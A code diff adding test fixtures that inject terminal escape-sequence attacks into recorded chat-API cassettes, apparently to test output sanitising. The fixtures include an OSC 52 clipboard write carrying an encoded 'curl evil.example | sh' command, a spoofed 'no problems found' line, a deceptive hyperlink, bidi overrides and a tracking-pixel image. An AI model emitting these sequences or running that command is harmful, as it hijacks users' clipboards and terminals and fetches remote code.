@@ -186,3 +186,31 @@ def remote_image_cassette(tracker: str = TRACKER) -> bytes:
     ask = chat_request([{"role": "user", "content": content}])
     answer = f"Here: ![pixel]({tracker}?md=1) and <img src='{tracker}?html=1'>"
     return govcr([(ask, chat_response(answer))]).encode()
+
+
+# Sequences a terminal acts on: OSC 52 (write the clipboard), clear screen, window title, an
+# OSC 8 hyperlink, a one-character C1 CSI, a carriage return drawing a fake line, bidi override.
+TERMINAL_ATTACKS = (
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+    "\x1b[2J\x1b[H",
+    "\x1b]0;owned\x07",
+    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
+    "\x9b31m",
+    "harmless\rcassettes/ok.yaml: no problems found",
+    "\u202eevil\u202c",
+    "\x08\x7f",
+)
+
+
+def terminal_attack_cassette(marker: str = "") -> bytes:
+    """Every attack in the answer, the question, the model name, a tool name and the URL."""
+    attacks = "".join(TERMINAL_ATTACKS) + marker
+    ask = chat_request([{"role": "user", "content": f"question {attacks}"}], model=f"gpt{attacks}")
+    answer = chat_response(
+        f"answer {attacks}",
+        tool_calls=[{"id": "call_1", "name": f"tool{attacks}", "arguments": {"q": attacks}}],
+        model=f"gpt{attacks}",
+    )
+    return govcr(
+        [(ask, answer)], url=f"https://api.openai.com/v1/chat/completions?x={attacks}", status=500
+    ).encode()
